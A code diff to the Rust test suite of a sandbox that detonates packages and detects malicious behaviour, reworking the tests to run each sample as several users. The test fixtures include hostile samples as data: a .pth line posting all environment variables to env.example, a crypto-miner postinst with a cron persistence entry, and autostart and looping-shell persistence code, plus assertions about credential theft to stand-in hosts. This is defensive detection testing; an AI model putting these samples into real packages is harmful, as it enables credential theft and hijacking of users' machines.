@@ -1,32 +1,37 @@
 //! Incidents, rebuilt so that they harm nobody: each is found by what it does.
 
+use super::support::programs;
 use countersign_core::{Outcome, Severity};
 use countersign_sandbox::{Artifact, Detonation, Detonator, Limits, Program};
 use std::io::Write as _;
-use std::path::{Path, PathBuf};
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::Path;
 
-fn detonator() -> Detonator {
-    let path = PathBuf::from(env!("CARGO_BIN_EXE_countersign-jail"));
+fn detonator(program: Program) -> Detonator {
     // Beside the program, so that the tests' runs share what their clients do by themselves.
-    let cache = path.parent().map(|folder| folder.join("baselines"));
-    let program = Program { path, arguments: Vec::new() };
-    Detonator { program, cache, limits: Limits::default(), seed: b"a test".to_vec() }
+    let cache = Path::new(env!("CARGO_BIN_EXE_countersign-jail")).with_file_name("baselines");
+    let (cache, limits) = (Some(cache), Limits::default());
+    Detonator { program, cache, limits, seed: b"a test".to_vec() }
 }
 
-/// What a file of these bytes does; none where this machine cannot tell.
-fn detonate(file_name: &str, bytes: &[u8]) -> Option<Detonation> {
+/// What a file of these bytes does, as each user; less of them where this machine cannot tell.
+fn detonate(file_name: &str, bytes: &[u8]) -> Vec<Detonation> {
     let folder = tempfile::tempdir().unwrap();
+    let open = std::fs::Permissions::from_mode(0o755);
+    std::fs::set_permissions(folder.path(), open).unwrap();
     let path = folder.path().join(file_name);
     std::fs::write(&path, bytes).unwrap();
     let file_name = file_name.to_owned();
-    let ran = detonator().detonate(&Artifact { path, file_name, companions: Vec::new() });
-    match &ran.check.outcome {
+    let artifact = Artifact { path, file_name, companions: Vec::new() };
+    let ran = programs().into_iter().map(|program| detonator(program).detonate(&artifact));
+    let could = ran.filter(|ran| match &ran.check.outcome {
         Outcome::NotDone { because } if ran.record.is_empty() => {
             eprintln!("skipped: {because}");
-            None
+            false
         }
-        _ => Some(ran),
-    }
+        _ => true,
+    });
+    could.collect()
 }
 
 fn tar_gz(files: &[(&str, &str)]) -> Vec<u8> {
@@ -80,10 +85,11 @@ fn a_postinstall_that_posts_the_npmrc() {
         ("package/steal.js", steal),
         ("package/index.js", ""),
     ]);
-    let Some(ran) = detonate("left-bad-1.0.0.tgz", &bytes) else { return };
-    found(&ran, "behaviour.reads-credentials", "`~/.npmrc` when it is installed");
-    found(&ran, "behaviour.connects", "drop.example");
-    found(&ran, "behaviour.sends-credentials", "`~/.npmrc` to `drop.example`");
+    for ran in detonate("left-bad-1.0.0.tgz", &bytes) {
+        found(&ran, "behaviour.reads-credentials", "`~/.npmrc` when it is installed");
+        found(&ran, "behaviour.connects", "drop.example");
+        found(&ran, "behaviour.sends-credentials", "`~/.npmrc` to `drop.example`");
+    }
 }
 
 #[test]
@@ -101,18 +107,20 @@ setup(name='fetcher', version='1.0', py_modules=['fetcher'])
         ("fetcher-1.0/fetcher.py", ""),
         ("fetcher-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: fetcher\nVersion: 1.0\n"),
     ]);
-    let Some(ran) = detonate("fetcher-1.0.tar.gz", &bytes) else { return };
-    found(&ran, "behaviour.connects", "stage.example");
-    found(&ran, "behaviour.runs-downloaded", "`/tmp/two`");
+    for ran in detonate("fetcher-1.0.tar.gz", &bytes) {
+        found(&ran, "behaviour.connects", "stage.example");
+        found(&ran, "behaviour.runs-downloaded", "`/tmp/two`");
+    }
 }
 
 #[test]
 fn a_pth_that_sends_the_environment() {
     let pth = "import os, urllib.request; urllib.request.urlopen('http://env.example/', data=repr(dict(os.environ)).encode())\n";
     let bytes = wheel("litebad", &[("litebad.py", ""), ("litebad_init.pth", pth)]);
-    let Some(ran) = detonate("litebad-1.0-py3-none-any.whl", &bytes) else { return };
-    found(&ran, "behaviour.connects", "at each start of the interpreter");
-    found(&ran, "behaviour.sends-credentials", "$AWS_SECRET_ACCESS_KEY");
+    for ran in detonate("litebad-1.0-py3-none-any.whl", &bytes) {
+        found(&ran, "behaviour.connects", "at each start of the interpreter");
+        found(&ran, "behaviour.sends-credentials", "$AWS_SECRET_ACCESS_KEY");
+    }
 }
 
 #[test]
@@ -130,10 +138,11 @@ fn a_build_script_that_opens_a_connection() {
         ("mysten-bad-1.0.0/build.rs", build),
         ("mysten-bad-1.0.0/src/lib.rs", "use serde::Serialize;"),
     ]);
-    let Some(ran) = detonate("mysten-bad-1.0.0.crate", &bytes) else { return };
-    found(&ran, "behaviour.connects", "203.0.113.9:4444");
-    found(&ran, "behaviour.reads-credentials", "`~/.ssh/id_ed25519` when it is compiled");
-    found(&ran, "behaviour.sends-credentials", "`~/.ssh/id_ed25519` to `203.0.113.9:4444`");
+    for ran in detonate("mysten-bad-1.0.0.crate", &bytes) {
+        found(&ran, "behaviour.connects", "203.0.113.9:4444");
+        found(&ran, "behaviour.reads-credentials", "`~/.ssh/id_ed25519` when it is compiled");
+        found(&ran, "behaviour.sends-credentials", "`~/.ssh/id_ed25519` to `203.0.113.9:4444`");
+    }
 }
 
 #[test]
@@ -146,11 +155,12 @@ open(home + '/.config/autostart/x.desktop', 'w').write('x')
 subprocess.Popen(['/bin/sh', '-c', 'while :; do sleep 1; done'], start_new_session=True)
 ";
     let bytes = wheel("telbad", &[("telbad/__init__.py", code)]);
-    let Some(ran) = detonate("telbad-1.0-py3-none-any.whl", &bytes) else { return };
-    found(&ran, "behaviour.persists", "`~/.bashrc`");
-    found(&ran, "behaviour.persists", "`~/.config/autostart/x.desktop`");
-    found(&ran, "behaviour.stays", "sh");
-    assert!(ran.findings.iter().any(|f| f.id == "behaviour.starts-shell"), "{ran:#?}");
+    for ran in detonate("telbad-1.0-py3-none-any.whl", &bytes) {
+        found(&ran, "behaviour.persists", "`~/.bashrc`");
+        found(&ran, "behaviour.persists", "`~/.config/autostart/x.desktop`");
+        found(&ran, "behaviour.stays", "sh");
+        assert!(ran.findings.iter().any(|f| f.id == "behaviour.starts-shell"), "{ran:#?}");
+    }
 }
 
 /// A `.deb` of these maintainer scripts (deb(5)).
@@ -179,9 +189,10 @@ fn a_maintainer_script_that_mines() {
     let postinst = "#!/bin/sh\nsh -c 'exit 0' xmrig --url stratum+tcp://pool.example:3333\n\
                     echo '* * * * * x' > /etc/cron.d/x\nexit 0\n";
     let bytes = deb(&[("./control", control), ("./postinst", postinst)]);
-    let Some(ran) = detonate("minebad_1_all.deb", &bytes) else { return };
-    found(&ran, "behaviour.mines", "stratum+tcp");
-    found(&ran, "behaviour.persists", "`/etc/cron.d/x`");
+    for ran in detonate("minebad_1_all.deb", &bytes) {
+        found(&ran, "behaviour.mines", "stratum+tcp");
+        found(&ran, "behaviour.persists", "`/etc/cron.d/x`");
+    }
 }
 
 #[test]
@@ -215,28 +226,38 @@ fn what_does_nothing_is_passed() {
             )]),
         ),
     ] {
-        let Some(ran) = detonate(name, &bytes) else { continue };
-        assert_eq!(ran.findings, [], "{name}: {ran:#?}");
-        assert_eq!(ran.check.outcome, Outcome::Passed, "{name}: {ran:#?}");
+        for ran in detonate(name, &bytes) {
+            assert_eq!(ran.findings, [], "{name}: {ran:#?}");
+            assert_eq!(ran.check.outcome, Outcome::Passed, "{name}: {ran:#?}");
+        }
     }
+}
+
+/// The stages' program as this user.
+fn own() -> Program {
+    programs().swap_remove(0)
 }
 
 #[test]
 fn what_cannot_be_done_is_not_passed() {
-    let broken = detonator().detonate(&Artifact {
+    let broken = detonator(own()).detonate(&Artifact {
         path: Path::new("/nonexistent/x.whl").to_owned(),
         file_name: "x-1.0-py3-none-any.whl".to_owned(),
         companions: Vec::new(),
     });
     assert!(matches!(broken.check.outcome, Outcome::NotDone { .. }), "{broken:?}");
-    let Some(ran) = detonate("y-1.0-py3-none-any.whl", b"no archive") else { return };
-    assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
-    let mut none = detonator();
-    none.program.path = "/nonexistent/program".into();
-    none.cache = None;
-    let path = std::env::current_exe().unwrap();
-    let artifact =
-        Artifact { path, file_name: "z-1.0-py3-none-any.whl".to_owned(), companions: Vec::new() };
-    let ran = none.detonate(&artifact);
-    assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
+    for ran in detonate("y-1.0-py3-none-any.whl", b"no archive") {
+        assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
+        let mut none = detonator(own());
+        none.program.path = "/nonexistent/program".into();
+        none.cache = None;
+        let path = std::env::current_exe().unwrap();
+        let artifact = Artifact {
+            path,
+            file_name: "z-1.0-py3-none-any.whl".to_owned(),
+            companions: Vec::new(),
+        };
+        let ran = none.detonate(&artifact);
+        assert!(matches!(ran.check.outcome, Outcome::NotDone { .. }), "{ran:?}");
+    }
 }
